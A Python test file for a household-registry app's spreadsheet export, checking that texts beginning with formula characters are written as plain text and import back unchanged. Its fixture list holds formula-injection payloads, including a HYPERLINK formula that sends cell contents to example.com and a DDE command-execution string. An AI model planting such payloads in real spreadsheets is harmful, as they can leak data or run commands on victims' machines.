"""Every exported text is text, whatever it begins with, and comes back exactly as it was.

A name "=HYPERLINK(…)" was written as a live formula (one export had 172 of them). Here every
text field of households, groups and wards begins with each character a spreadsheet reads as
the start of a formula (or an error, or the format's own escape); the files are reopened with
openpyxl (no cell may be a formula) and imported again (the same strings).
"""

from __future__ import annotations

import ast
import shutil
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from storage import household_import as hi
from storage.household_export import export_households
from storage.model import Household, HouseholdYear
from storage.store import Store
from storage.xlsx_writer import new_workbook, text_cell

YEAR = 2024
ROOT = Path(__file__).resolve().parents[2]
# What a spreadsheet takes for the start of a formula, an error, or its escape of a character.
DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "\n", "#N/A", "_x0041_", "=HYPERLINK("]
TEXTS = [
    '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")', "=1+1", "+84 912 345 678",
    "-5", "@SUM(A1:A9)", "\t=SUM(A1)", "\r=1", "=cmd|' /C calc'!A0", "#N/A", "#REF!",
    "_x0041_ là A", "Lò \x07 Văn", "= Lò Văn Páo", "-Giàng A Láo-", "@Tẩn Láo Lở",
]


@pytest.fixture
def demo(tmp_path: Path, demo_path: Path) -> Iterator[Store]:
    copy = tmp_path / "demo.sqlite"
    shutil.copy(demo_path, copy)
    with Store(copy, actor="test") as opened:
        yield opened


def add_dangerous_households(store: Store) -> tuple[str, list[Household]]:
    """A ward and a group whose names begin with "=", and households whose every text field
    begins with a dangerous character; the households as stored (the store normalises
    spaces, so a leading tab is gone: the stored text is the original)."""
    city = store.units.city()
    ward = store.units.add("phuong", "=Phường Thử", city.id, 2020)
    group = store.units.add("tdp", '=HYPERLINK("http://x","Tổ thử")', ward.id, 2020)
    added = []
    for number, text in enumerate(TEXTS):
        household = Household(group_id=group.id, head_name=f"{text} {number}",
                              address=text, note=f"{text} ghi chú", member_count=2)
        stored = store.households.add(household, status=HouseholdYear(
            "", YEAR, group.id, cultural_family=True))
        added.append(store.households.get(stored.id))
    return ward.id, added


def no_formula_anywhere(path: Path) -> list[list[object]]:
    """The values of the file's first sheet, reopened with openpyxl; asserts that no cell is a
    formula or an error. openpyxl leaves the format's escapes ("_x0007_") as they are written,
    Excel and the importer read them as the character: they are decoded here as Excel does."""
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == []
    return [[unescape(cell.value) if isinstance(cell.value, str) else cell.value
             for cell in row] for row in sheet.iter_rows()]


def test_exported_households_are_text_and_import_back_unchanged(tmp_path: Path,
                                                               demo: Store) -> None:
    ward_id, households = add_dangerous_households(demo)
    assert {household.head_name[:1] for household in households} >= {"=", "+", "-", "@", "#"}
    path = tmp_path / "nguy_hiem.xlsx"
    assert export_households(demo, YEAR, path, ward_id) == len(households)
    values = no_formula_anywhere(path)
    column = {name: index + 1 for index, name in enumerate(hi.LAYOUT)}
    body = {row[column["household_id"]]: row for row in values[4:]}
    assert values[1][0] == "=Phường Thử"
    for household in households:
        row = body[household.id]
        assert row[column["head_name"]] == household.head_name
        assert row[column["address"]] == household.address
        assert row[column["note"]] == household.note
        assert row[column["group"]] == '=HYPERLINK("http://x","Tổ thử")'
        assert row[column["ward"]] == "=Phường Thử"
    # Imported again: every household found unchanged, every text the same string.
    imported = hi.read_file(path)
    assert imported.detections == []
    texts = {imported.text(row, 1 + column["household_id"] - 1):
             [imported.text(row, column[name]) for name in ("head_name", "address", "note")]
             for row in imported.data_rows}
    for household in households:
        assert texts[household.id] == [household.head_name, household.address, household.note]
    preview = hi.check(demo, imported, hi.guess_mapping(imported, demo, YEAR), YEAR)
    assert (preview.counts.unchanged, preview.counts.rejected) == (len(households), 0)


def test_the_rejected_rows_file_keeps_every_text_as_text(tmp_path: Path, demo: Store) -> None:
    """The rows of a file that could not be imported go back out as they came in."""
    source = tmp_path / "nhap.csv"
    names = [text.replace("\r", "").replace("\n", "") for text in TEXTS]
    lines = ["Họ và tên chủ hộ;Tổ dân phố;Ghi chú",
             *(f"{name.replace(';', ',')};Tổ không có;{name.replace(';', ',')}"
               for name in names)]
    source.write_text("\n".join(lines), encoding="utf-8")
    imported = hi.read_file(source)
    preview = hi.check(demo, imported, hi.guess_mapping(imported, demo, YEAR), YEAR)
    assert preview.counts.rejected == len(names)
    out = tmp_path / "chua_nhap.xlsx"
    assert hi.write_rejected(preview, out) == len(names)
    values = no_formula_anywhere(out)
    expected = [imported.text(row.line - 1, 0) for row in preview.rejected]
    assert [row[0] for row in values[4:]] == expected
    again = hi.read_file(out)
    assert [again.text(row, 0) for row in again.data_rows] == expected
    assert [again.text(row, 2) for row in again.data_rows] == [
        imported.text(row.line - 1, 2) for row in preview.rejected]


@pytest.mark.parametrize("write_only", [False, True])
def test_every_way_of_putting_a_text_in_a_cell_keeps_it_text(tmp_path: Path,
                                                            write_only: bool) -> None:
    """The workbook every writer gets: appended rows, styled cells, cells set one by one, a
    formula slipped in by a writer: text, and read back exactly (by the importer's reader)."""
    workbook = new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("Thử") if write_only else workbook.active
    sheet.append(["Họ và tên chủ hộ", "Ghi chú"])
    for text in TEXTS:
        styled = text_cell(sheet, text)
        styled.number_format = "@"
        sheet.append([text, styled])
    if not write_only:
        sheet.cell(sheet.max_row + 1, 1, "=1+2")
        sheet.cell(sheet.max_row, 2).value = "=3+4"
        sheet.append({"A": "=5+6", "B": "-7"})
    path = tmp_path / "o.xlsx"
    workbook.save(path)
    values = no_formula_anywhere(path)
    assert [row[0] for row in values[1:1 + len(TEXTS)]] == TEXTS
    read = hi.read_file(path)
    assert [read.rows[row][0] for row in range(1, 1 + len(TEXTS))] == TEXTS
    assert [read.rows[row][1] for row in range(1, 1 + len(TEXTS))] == TEXTS
    if not write_only:
        assert [row[:2] for row in read.rows[-2:]] == [["=1+2", "=3+4"], ["=5+6", "-7"]]


def test_a_text_too_long_for_a_cell_is_refused_not_cut(tmp_path: Path) -> None:
    workbook = new_workbook()
    with pytest.raises(hi.ValidationError, match="32.767 ký tự"):
        workbook.active.append(["x" * 40_000])


def test_every_xlsx_writer_goes_through_the_text_workbook() -> None:
    """No module makes an openpyxl workbook or cell of its own: they would write a text that
    begins with "=" as a formula."""
    offenders = []
    for package in ("storage", "reports", "cli", "gui"):
        for path in sorted((ROOT / package).rglob("*.py")):
            if path.name == "xlsx_writer.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                names: list[str] = []
                if isinstance(node, ast.ImportFrom) and (node.module or "").startswith(
                        "openpyxl"):
                    names = [alias.name for alias in node.names]
                elif isinstance(node, ast.Attribute) and node.attr in ("Workbook",
                                                                        "WriteOnlyCell"):
                    names = [node.attr]
                bad = {"Workbook", "WriteOnlyCell", "Cell", "load_workbook"} & set(names)
                if bad:
                    offenders.append(f"{path.relative_to(ROOT)}: {sorted(bad)}")
    assert offenders == []
